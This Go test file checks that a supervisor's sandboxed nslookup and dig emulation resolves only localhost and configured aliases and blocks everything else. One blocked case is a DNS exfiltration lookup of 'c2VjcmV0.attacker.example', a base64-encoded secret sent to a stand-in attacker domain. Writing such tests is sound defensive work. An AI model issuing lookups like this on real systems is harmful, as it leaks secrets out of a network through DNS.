package programs_test

import (
	"strings"
	"testing"

	"wardroom/internal/supervisor/programs"
)

func TestNameLookups(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		argv []string
		code int
		want string
	}{
		{[]string{"nslookup", "localhost"}, 0, "Name:\tlocalhost\nAddress: 127.0.0.1\n"},
		{[]string{"nslookup", "-type=a", "LOCALHOST."}, 0, "Address: 127.0.0.1\n"},
		{[]string{"dig", "+short", "localhost"}, 0, "127.0.0.1\n"},
		{[]string{"dig", "+noall", "+answer", "localhost", "A"}, 0, ";; status: NOERROR, ANSWER: 1\nlocalhost.\tIN\tA\t127.0.0.1\n"},
		{[]string{"dig", "-t", "A", "-q", "cache.invalid"}, 0, ";; status: NXDOMAIN, ANSWER: 0\n"},
		{[]string{"nslookup", "db.invalid"}, 1, "** server can't find db.invalid: NXDOMAIN\n"},

		{[]string{"nslookup", "example.com"}, 126, ""},
		{[]string{"nslookup", "c2VjcmV0.attacker.example"}, 126, ""},
		{[]string{"nslookup", "x.localhost"}, 126, ""},
		{[]string{"nslookup", "localhost", "8.8.8.8"}, 1, ""},
		{[]string{"nslookup", "-type=TXT", "localhost"}, 1, ""},
		{[]string{"nslookup", "-port=5353", "localhost"}, 1, ""},
		{[]string{"nslookup"}, 1, ""},
		{[]string{"nslookup", ""}, 126, ""},
		{[]string{"dig", "example.com"}, 126, ""},
		{[]string{"dig", "@8.8.8.8", "localhost"}, 1, ""},
		{[]string{"dig", "-f", "/etc/hosts"}, 1, ""},
		{[]string{"dig", "-x", "127.0.0.1"}, 1, ""},
		{[]string{"dig", "localhost", "example.com"}, 1, ""},
		{[]string{"dig", "localhost", "TXT"}, 1, ""},
		{[]string{"dig", "-t", "TXT", "localhost"}, 1, ""},
		{[]string{"dig"}, 1, ""},
	} {
		f := newFixture(t, nil)
		f.network = programs.Network{
			Hosts: map[string]string{"localhost:9090": "https://prometheus.invalid", "api": "http://127.0.0.1:1"},
			Redis: []programs.Conn{{Alias: "cache", URL: "redis://:secret@cache.invalid:6379"}}, Postgres: []programs.Conn{{Alias: "db", URL: "postgres://u:secret@db.invalid/x"}},
		}
		got := f.run(t.Context(), t, "", c.argv...)
		if got.Code != c.code || !strings.Contains(got.Stdout, c.want) || c.want == "" && got.Stdout != "" {
			t.Errorf("%q: %+v", c.argv, got)
		}
	}
}
